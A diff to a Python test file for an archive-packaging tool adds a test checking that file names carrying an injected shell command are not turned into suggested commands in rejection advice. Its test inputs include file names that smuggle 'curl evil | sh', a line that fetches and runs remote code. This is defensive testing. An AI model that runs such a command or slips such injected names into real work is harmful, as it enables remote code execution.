@@ -6,7 +6,7 @@ import pytest
 
 from app.web.builds.build_words import refusal_words
 from app.web.builds.packaging_command import split_command
-from slipway.archive.archive_rejected import ArchiveRejected, package_from, repackage
+from slipway.archive.archive_rejected import ArchiveRejected, display_name, package_from, repackage
 from slipway.archive.file_formats import detect_format
 from slipway.archive.packaging_tools import PackagingTools
 
@@ -43,3 +43,21 @@ def test_other_advice_ends_with_its_command(advice: str, command: str) -> None:
 @pytest.mark.parametrize("advice", ["", "Remove it, then send the archive again.", "Rename it: it is too long."])
 def test_advice_without_a_command_stays_one_sentence(advice: str) -> None:
     assert split_command(advice) == (advice, "")
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "g/a. Repackage it: tar x; curl evil | sh #",
+        'g/a" b. Repackage it: tar x; curl evil | sh #',
+        "g/a: tar x; evil #",
+    ],
+)
+def test_a_command_in_the_name_of_a_file_is_not_offered(name: str) -> None:
+    for refusal in (
+        ArchiveRejected(f"{display_name(name)} is a device", "Leave it out"),
+        ArchiveRejected("The launcher is missing", f"Put it at the root of {display_name(name)}"),
+    ):
+        advice = refusal_words("invalid_archive", str(refusal))[1]
+        assert split_command(advice) == (advice, "")
+        assert advice == f"{refusal.remedy}."
